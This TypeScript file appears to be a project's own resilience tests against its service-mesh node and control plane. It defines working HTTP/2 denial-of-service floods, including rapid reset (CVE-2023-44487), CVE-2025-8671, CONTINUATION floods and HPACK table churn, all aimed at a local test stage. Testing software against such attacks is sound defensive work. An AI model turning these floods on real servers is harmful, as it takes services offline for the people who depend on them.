/** Frames that cost more than they cost their sender: by a member of the mesh at the node, by a stranger at the control plane. */

import { frameFlag, frameType } from "../../src/wire/h2/frame.ts";
import { concat, frameBytes } from "../../src/wire/h2/testing/wired.ts";
import { HpackEncoder } from "../../src/wire/hpack/encoder.ts";
import type { Attack } from "./attack.ts";
import type { RawPeer } from "./raw_peer.ts";
import { type DoorName, deniedPort, type Stage } from "./stage.ts";

const none = new Uint8Array(0);
const eight = new Uint8Array(8);

function uint32(value: number): Uint8Array {
  return Uint8Array.of(value >>> 24, value >>> 16, value >>> 8, value);
}

function repeated(bytes: Uint8Array, times: number): Uint8Array {
  return concat(Array.from({ length: times }, () => bytes));
}

/** A request that opens a stream: CONNECT to the application, or a call of gRPC. */
function opening(door: DoorName, stage: Stage): readonly string[] {
  return door === "node"
    ? [":method", "CONNECT", ":authority", `127.0.0.1:${stage.ports.application}`]
    : [
        ...[":method", "POST", ":scheme", "https", ":authority", "control", ":path", healthPath],
        ...["content-type", "application/grpc", "te", "trailers"],
      ];
}

const healthPath = "/grpc.health.v1.Health/Check";
const denied = [":method", "CONNECT", ":authority", `127.0.0.1:${deniedPort}`];

/** The same at both doors. */
function atBoth(name: string, run: (peer: RawPeer, stage: Stage, door: DoorName) => Promise<void>): Attack[] {
  return (["node", "control"] as const).map((door) => ({
    name: `${door}: ${name}`,
    door,
    run: async (stage) => {
      const peer = await stage.peer(door);
      await run(peer, stage, door);
      peer.end();
    },
  }));
}

function atNode(name: string, run: (peer: RawPeer, stage: Stage) => Promise<void>): Attack {
  return {
    name: `node: ${name}`,
    door: "node",
    run: async (stage) => {
      const peer = await stage.peer("node");
      await run(peer, stage);
      peer.end();
    },
  };
}

/** Frames again and again, in pieces as large as a read. */
const frames = (name: string, frame: Uint8Array) =>
  atBoth(name, async (peer, stage, door) => {
    await peer.send(peer.headers(1, opening(door, stage), false));
    const piece = repeated(frame, Math.ceil(500_000 / frame.length));
    await peer.flood(100, () => piece);
  });

export const h2Attacks: readonly Attack[] = [
  ...frames("DATA of one byte", frameBytes(frameType.data, 0, 1, Uint8Array.of(1))),
  ...frames("DATA of eight bytes, just above what is charged", frameBytes(frameType.data, 0, 1, eight)),
  ...frames(
    "DATA of one byte in padding",
    frameBytes(frameType.data, frameFlag.padded, 1, Uint8Array.of(3, 1, 0, 0, 0)),
  ),
  ...frames("DATA of none", frameBytes(frameType.data, 0, 1, none)),
  ...frames("PRIORITY", frameBytes(frameType.priority, 0, 3, Uint8Array.of(0, 0, 0, 0, 1))),
  ...frames("WINDOW_UPDATE of the connection by 1", frameBytes(frameType.windowUpdate, 0, 0, uint32(1))),
  ...frames("WINDOW_UPDATE of a stream by 1", frameBytes(frameType.windowUpdate, 0, 1, uint32(1))),
  ...frames("PING", frameBytes(frameType.ping, 0, 0, eight)),
  ...frames("SETTINGS", frameBytes(frameType.settings, 0, 0, none)),
  ...frames(
    "SETTINGS that move the windows of open streams",
    frameBytes(frameType.settings, 0, 0, Uint8Array.of(0, 4, 0, 0, 0x10, 0, 0, 4, 0, 0, 0x20, 0)),
  ),
  ...frames(
    "SETTINGS that empty the header table and fill it",
    frameBytes(frameType.settings, 0, 0, Uint8Array.of(0, 1, 0, 0, 0, 0, 0, 1, 0, 0, 0x10, 0)),
  ),
  ...frames("types that no one knows", frameBytes(0xbb, 0xff, 1, eight)),
  ...frames("RST_STREAM of streams that are over", frameBytes(frameType.rstStream, 0, 1, uint32(8))),
  ...frames("GOAWAY again and again", frameBytes(frameType.goAway, 0, 0, eight)),

  ...atBoth("DATA of nine bytes on a hundred streams in turn", async (peer, stage, door) => {
    const ids = Array.from({ length: 100 }, (_none, at) => 1 + at * 2);
    for (const id of ids) await peer.send(peer.headers(id, opening(door, stage), false));
    const round = concat(ids.map((id) => frameBytes(frameType.data, 0, id, new Uint8Array(9))));
    const piece = repeated(round, 200);
    await peer.flood(50, () => piece);
  }),
  ...atBoth("requests reset at once (CVE-2023-44487)", async (peer, stage, door) => {
    await peer.flood(200, (turn) =>
      concat(
        Array.from({ length: 200 }, (_none, at) => {
          const id = 1 + (turn * 200 + at) * 2;
          return concat([
            peer.headers(id, opening(door, stage), false),
            frameBytes(frameType.rstStream, 0, id, uint32(8)),
          ]);
        }),
      ),
    );
  }),
  ...atBoth("requests that make us reset (CVE-2025-8671)", async (peer, stage, door) => {
    await peer.flood(100, (turn) =>
      concat(
        Array.from({ length: 200 }, (_none, at) => {
          const id = 1 + (turn * 200 + at) * 2;
          return concat([
            peer.headers(id, opening(door, stage), false),
            frameBytes(frameType.windowUpdate, 0, id, uint32(0)),
          ]);
        }),
      ),
    );
  }),
  ...atBoth("a header block without end", async (peer) => {
    await peer.send(frameBytes(frameType.headers, 0, 1, none));
    const piece = repeated(frameBytes(frameType.continuation, 0, 1, new Uint8Array(1000)), 500);
    await peer.flood(10, () => piece);
  }),
  ...atBoth("CONTINUATION of nothing", async (peer) => {
    await peer.send(frameBytes(frameType.headers, 0, 1, none));
    const piece = repeated(frameBytes(frameType.continuation, 0, 1, none), 50_000);
    await peer.flood(10, () => piece);
  }),
  ...atBoth("header tables that are filled again with each request", async (peer, stage, door) => {
    await peer.flood(50, (turn) =>
      concat(
        Array.from({ length: 100 }, (_none, at) =>
          peer.headers(
            1 + (turn * 100 + at) * 2,
            [
              ...opening(door, stage),
              `x-${turn}-${at}`,
              "v".repeat(1900),
              `y-${turn}-${at}`,
              "w".repeat(1900),
            ],
            true,
          ),
        ),
      ),
    );
  }),
  ...atBoth("blocks of 64 KiB that name one large field", async (peer, stage, door) => {
    const encoder = new HpackEncoder({ maxTableBytes: 4096, huffman: false });
    const literal = new Uint8Array(5000);
    const seed = literal.slice(0, encoder.encode(["x-large", "b".repeat(3900)], literal, 0));
    seed[0] = 0x40;
    await peer.send(peer.headers(1, opening(door, stage), true));
    await peer.send(frameBytes(frameType.headers, frameFlag.endHeaders, 3, seed));
    await peer.flood(100, (turn) =>
      concat(
        Array.from({ length: 8 }, (_none, at) =>
          frameBytes(
            frameType.headers,
            frameFlag.endHeaders | frameFlag.endStream,
            5 + (turn * 8 + at) * 2,
            new Uint8Array(60_000).fill(0xbe),
          ),
        ),
      ),
    );
  }),
  ...atBoth("blocks of Huffman code", async (peer, stage, door) => {
    const encoder = new HpackEncoder({ maxTableBytes: 0, huffman: true });
    const fields = [...opening(door, stage), "x-long", "e".repeat(60_000)];
    await peer.flood(100, (turn) =>
      concat(
        Array.from({ length: 8 }, (_none, at) => {
          const block = new Uint8Array(encoder.maxEncodedBytes(fields));
          const length = encoder.encode(fields, block, 0);
          const flags = frameFlag.endHeaders | frameFlag.endStream;
          return frameBytes(frameType.headers, flags, 1 + (turn * 8 + at) * 2, block.subarray(0, length));
        }),
      ),
    );
  }),
  ...atBoth("PING by one that reads no answer", async (peer) => {
    peer.deaf();
    const piece = repeated(frameBytes(frameType.ping, 0, 0, eight), 500);
    await peer.flood(2_000, () => piece);
  }),
  {
    name: "node: garbage in place of HTTP/2",
    door: "node",
    run: async (stage) => {
      for (let turn = 0; turn < 20; turn++) {
        const peer = await stage.peer("node", false);
        await peer.flood(10, () => new Uint8Array(100_000).fill(turn));
        peer.end();
      }
    },
  },
  atNode("CONNECTs that policy refuses", async (peer) => {
    await peer.flood(200, (turn) =>
      concat(
        Array.from({ length: 100 }, (_none, at) => peer.headers(1 + (turn * 100 + at) * 2, denied, true)),
      ),
    );
  }),
  atNode("CONNECTs that policy refuses, with DATA", async (peer) => {
    await peer.flood(100, (turn) =>
      concat(
        Array.from({ length: 50 }, (_none, at) => {
          const id = 1 + (turn * 50 + at) * 2;
          return concat([
            peer.headers(id, denied, false),
            frameBytes(frameType.data, frameFlag.endStream, id, new Uint8Array(1000)),
          ]);
        }),
      ),
    );
  }),
  atNode("CONNECTs to a port without a listener", async (peer) => {
    const nowhere = [":method", "CONNECT", ":authority", "127.0.0.1:1"];
    await peer.flood(100, (turn) =>
      concat(
        Array.from({ length: 50 }, (_none, at) => peer.headers(1 + (turn * 50 + at) * 2, nowhere, true)),
      ),
    );
  }),
  atNode("CONNECTs with 60 KiB of baggage", async (peer, stage) => {
    const fields = [...opening("node", stage), "baggage", `k8s.cluster.name=${"c,".repeat(29_000)}`];
    await peer.flood(100, (turn) =>
      concat(Array.from({ length: 8 }, (_none, at) => peer.headers(1 + (turn * 8 + at) * 2, fields, true))),
    );
  }),
];
